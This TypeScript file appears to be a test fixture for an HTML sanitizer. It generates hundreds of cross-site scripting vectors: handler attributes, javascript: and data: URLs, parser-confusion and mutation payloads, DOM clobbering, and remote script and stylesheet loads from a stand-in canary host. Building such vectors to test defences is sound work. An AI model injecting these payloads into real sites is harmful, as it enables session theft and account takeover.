/** What a vector would run. It reports to the tripwire whatever else the page allows or forbids. */
const RUN = 'tripwire(1)'
/** Where a vector would send somebody's secrets. */
export const CANARY = 'canary.invalid'

const elements = [
  ...['img', 'svg', 'body', 'input', 'video', 'audio', 'iframe', 'object', 'details', 'marquee', 'select'],
  ...['form', 'a', 'p', 'table', 'math', 'style', 'link', 'meta', 'base', 'isindex', 'x-unknown'],
]
const handlers = [
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter'],
  ...[
    'onbegin',
    'onstart',
    'onbeforescriptexecute',
    'onscrollsnapchange',
    'oncontentvisibilityautostatechange',
  ],
]

/** An element, a handler, and one of the ways to part or quote them that some parser once forgave. */
const withHandlers = elements.flatMap((element, place) =>
  handlers
    .filter((_, other) => (place + other) % 2 === 0)
    .map((handler, other) => {
      const ways = [
        `<${element} src=x tabindex=1 autofocus open ${handler}=${RUN}>`,
        `<${element}/src="x"/${handler}="${RUN}">`,
        `<${element} src=x ${handler.toUpperCase()}='${RUN}'//`,
        `<${element}\tsrc=x\n${handler}\f=\r${RUN}>`,
        `"><${element} src=x ${handler}=${RUN}>`,
        `<${element} src=x ${handler}=&#x74;ripwire&lpar;1&rpar;>`,
      ]
      return ways[(place + other) % ways.length] ?? ''
    }),
)

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `  javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://${CANARY}/%0a${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQudHJpcHdpcmUoMSk8L3NjcmlwdD4=',
  `vbscript:${RUN}`,
  `//${CANARY}/x.js`,
]
const carriers = [
  (address: string) => `<a href="${address}" autofocus>a</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">b</button></form>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>c</text></a></svg>`,
  (address: string) => `<object data="${address}"></object><embed src="${address}">`,
  (address: string) => `[d](${address}) ![e](${address}) <${address}>`,
]
const withAddresses = addresses.flatMap((address, place) =>
  carriers.filter((_, other) => (place + other) % 2 === 0).map((carrier) => carrier(address)),
)

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=//${CANARY}/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\u0000>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></noscript></style><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<p title="\`><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<style>@import '//${CANARY}/x.css'; * { background: url(//${CANARY}/y) }</style>`,
  `<p style="background:url(//${CANARY}/z);width:expression(${RUN})">styled</p>`,
  `<link rel=stylesheet href=//${CANARY}/l.css><link rel=prefetch href=//${CANARY}/p>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//${CANARY}/>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x" /></svg>`,
  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${RUN}>'}} />`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} #{${RUN}} <%= ${RUN} %>`,
  `';${RUN};'";${RUN};"\`;${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `https://venus.example/"onmouseover="${RUN}"`,
  `https://venus.example/'><img src=x onerror=${RUN}>`,
  `http://javascript:${RUN}@venus.example/`,
  `www.venus.example/<script>${RUN}</script>`,
  `<a id=tripwire name=tripwire href=x>clobbered</a><form name=body id=head></form>`,
  `<img name=currentScript><img name=getElementById>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<a href="x" target="_blank" rel="opener" onclick=${RUN}>opener</a>`,
]

/** Ends whatever a vector may have opened, so that the next one meets the parser fresh. */
export const ENDING =
  '"\'></style></script></iframe></select></object></svg></math></noscript></template></form></table></a><p>'

/** These would hide from the parser what comes after them: each stands alone, or last. */
export const swallowing = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  ...['<!--', '<textarea>', '<title>', '<xmp>', '<noembed>', '<script>', '<plaintext>'].map(
    (open) => `${open}<img src=x onerror=${RUN}>`,
  ),
]

export const vectors = [...new Set([...scripts, ...withAddresses, ...withHandlers])]
